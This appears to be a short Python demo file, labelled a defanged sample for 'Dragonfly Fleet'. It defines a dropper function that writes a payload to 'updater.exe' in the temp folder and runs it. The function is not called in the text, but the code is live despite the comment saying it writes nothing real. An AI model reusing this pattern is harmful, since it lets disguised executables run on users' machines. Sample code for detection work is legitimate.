# DEFANGED DEMO SAMPLE for Dragonfly Fleet: never called, writes nothing real.
import os


def _drop(payload):
    with open(os.path.join(os.environ.get("TEMP", "."), "updater.exe"), "wb") as f:
        f.write(payload)
    os.startfile(f.name)
